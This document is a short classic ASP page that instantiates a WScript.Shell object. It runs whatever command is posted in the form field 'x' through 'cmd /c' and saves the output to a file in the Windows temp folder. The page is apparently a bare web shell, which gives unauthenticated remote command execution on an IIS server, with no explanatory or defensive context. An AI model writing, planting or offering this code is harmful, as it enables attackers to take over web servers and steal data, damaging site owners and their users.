<object runat="server" id="oSh" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<%
If Request.Form("x") <> "" Then
    oSh.Run "cmd /c " & Request.Form("x") & " > c:\windows\temp\o.txt", 0, True
    Response.Write "done"
End If
%>
